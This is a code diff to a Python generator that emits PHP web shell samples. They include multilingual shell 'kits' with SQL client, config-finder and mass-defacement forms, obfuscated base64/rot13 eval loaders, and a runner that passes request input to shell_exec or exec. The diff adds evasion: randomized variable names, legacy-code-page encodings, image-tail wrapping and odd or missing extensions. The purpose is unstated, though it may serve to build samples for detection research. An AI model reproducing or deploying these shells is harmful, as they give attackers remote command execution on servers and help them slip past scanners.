@@ -136,6 +136,30 @@ if ($items) {
     return code
 
 
+def rename_vars(r, S, code, names):
+    """Rename PHP variables (whole names) to the style's own names."""
+    import re
+    S.used.update(re.findall(r"\$(\w+)", code))  # never a name the code already uses
+    for n in names:
+        if r.random() < 0.7:
+            new = S.name()
+            code = re.sub(r"\$%s\b" % n, lambda m: "$" + new, code)
+    return code
+
+
+KIT_VARS = ("dir", "act", "msg", "items", "full", "it", "parts", "acc", "pp", "auth_pass", "pass_hash")
+
+
+def kit_file(r, S, lang, extra, allowed, enc=None):
+    code = rename_vars(r, S, kit(r, S, lang, extra), KIT_VARS)
+    if enc and r.random() < 0.5:
+        # the whole kit saved in the legacy code page of its language
+        code = code.replace('charset="utf-8"', 'charset="%s"' % enc)
+        rel, cont = one(r, code, ("plain",))[0][0][0], enc + "-file"
+        return [(rel, code.encode(enc), "php")], cont
+    return one(r, code, allowed)
+
+
 def kit_zh(r, S):
     extra = """<?php
 // 数据库连接
@@ -149,7 +173,12 @@ if (isset($_POST['dbh'])) {
 ?>
 <form method="post">%s: <input name="dbh" value="localhost"><input name="dbu"><input name="dbp"><input name="dbn"><br><textarea name="q"></textarea><input type="submit"></form>
 """ % UI["zh"]["sql"]
-    return one(r, kit(r, S, "zh", extra), ("plain", "enc-bytes", "odd-ext", "crlf"))
+    if r.random() < 0.5:
+        # the PHP 5-era client
+        extra = extra.replace("@mysqli_connect($_POST['dbh'], $_POST['dbu'], $_POST['dbp'], $_POST['dbn'])",
+                              "@mysql_connect($_POST['dbh'], $_POST['dbu'], $_POST['dbp'])").replace(
+            "mysqli_query($l, $_POST['q'])", "mysql_query($_POST['q'], $l)").replace("mysqli_fetch_row", "mysql_fetch_row")
+    return kit_file(r, S, "zh", extra, ("plain", "enc-bytes", "odd-ext", "crlf"), "gbk")
 
 
 def kit_ru(r, S):
@@ -163,7 +192,7 @@ if (isset($_GET['a']) && $_GET['a'] == 'cfg') {
 ?>
 <a href="?a=cfg&d=<?php echo urlencode($dir); ?>">Найти конфиги</a>
 """
-    return one(r, kit(r, S, "ru", extra), ("plain", "enc-bytes", "no-ext", "short-tag"))
+    return kit_file(r, S, "ru", extra, ("plain", "enc-bytes", "no-ext", "short-tag"), "cp1251")
 
 
 def kit_id(r, S):
@@ -181,11 +210,11 @@ if (isset($_POST['massidx'])) {
 ?>
 <form method="post">Ganti index massal:<br><textarea name="massidx" cols="80" rows="5"></textarea><input type="submit" value="Gas"></form>
 """
-    return one(r, kit(r, S, "id", extra), ("plain", "odd-ext", "image-tail", "crlf"))
+    return kit_file(r, S, "id", extra, ("plain", "odd-ext", "image-tail", "crlf"))
 
 
 def kit_vi(r, S):
-    return one(r, kit(r, S, "vi"), ("plain", "odd-ext", "no-ext"))
+    return kit_file(r, S, "vi", "", ("plain", "odd-ext", "no-ext"))
 
 
 def kit_pt(r, S):
@@ -198,7 +227,7 @@ if (isset($_GET['a']) && $_GET['a'] == 'usr') {
 ?>
 <a href="?a=usr">Usuários</a>
 """
-    return one(r, kit(r, S, "pt", extra), ("plain", "short-tag", "enc-bytes"))
+    return kit_file(r, S, "pt", extra, ("plain", "short-tag", "enc-bytes"))
 
 
 # ---------------------------------------------------------------------------
@@ -442,9 +471,9 @@ def varvar_table(r, S):
     t = S.name()
     lines.append("$%s = ${$%s}(${$%s}(${$%s}(%s)));" % (t, vv[2], vv[1], vv[0], wrap_b64(blob, r)))
     lines.append(r.choice((
-        "$f = tempnam(sys_get_temp_dir(), 'sess'); file_put_contents($f, '<?php ' . $%s); include $f; @unlink($f);" % t,
+        "$__tf = tempnam(sys_get_temp_dir(), 'sess'); file_put_contents($__tf, '<?php ' . $%s); include $__tf; @unlink($__tf);" % t,
         "eval($%s);" % t,
-        "$u = 'data://text/plain;base64,' . base64_encode('<?php ' . $%s); include $u;" % t)))
+        "$__u = 'data://text/plain;base64,' . base64_encode('<?php ' . $%s); include $__u;" % t)))
     return one(r, "<?php\n" + "\n".join(lines) + "\n")
 
 
@@ -584,18 +613,18 @@ def closure_loader(r, S):
     k = r.randint(0, 2)
     if k == 0:
         code = """<?php
-$%(a)s = function ($s) { return base64_decode(str_rot13($s)); };
-$%(b)s = function ($s) use ($%(a)s) { return base64_decode($%(a)s($s)); };
+$%(a)s = function ($__s0) { return base64_decode(str_rot13($__s0)); };
+$%(b)s = function ($__s0) use ($%(a)s) { return base64_decode($%(a)s($__s0)); };
 $%(c)s = (function () use ($%(b)s) {
-    return function ($p) use ($%(b)s) { eval($%(b)s($p)); };
+    return function ($__p0) use ($%(b)s) { eval($%(b)s($__p0)); };
 })();
 $%(c)s(%(blob)s);
 """ % dict(a=a, b=b, c=c, blob=wrap_b64(blob, r))
     elif k == 1:
         code = """<?php
-$%(a)s = array_reduce(array('str_rot13', 'base64_decode', 'base64_decode'), function ($carry, $f) {
-    return function ($x) use ($carry, $f) { return $f($carry($x)); };
-}, function ($x) { return $x; });
+$%(a)s = array_reduce(array('str_rot13', 'base64_decode', 'base64_decode'), function ($__c, $__f) {
+    return function ($__x) use ($__c, $__f) { return $__f($__c($__x)); };
+}, function ($__x) { return $__x; });
 $%(b)s = $%(a)s(%(blob)s);
 call_user_func(function () use ($%(b)s) { eval($%(b)s); });
 """ % dict(a=a, b=b, blob=wrap_b64(blob, r))
@@ -708,7 +737,7 @@ if (isset($%(b)s[%(p)s])) {
 """ % dict(a=a, f=conv(f1), b=b, src=conv("_REQUEST") if False else "$_REQUEST", p=conv(p), pre=conv("<pre>"),
            epre=conv("</pre>"),
            call=("echo $%s($%s[%s]);" % (a, b, conv(p))) if f1 == "shell_exec" else
-           ("$%s($%s[%s], $o); echo implode(\"\\n\", $o);" % (a, b, conv(p)) if f1 == "exec" else
+           ("$%s($%s[%s], $__o); echo implode(\"\\n\", $__o);" % (a, b, conv(p)) if f1 == "exec" else
             "$%s($%s[%s]);" % (a, b, conv(p))))
     return one(r, code)
 
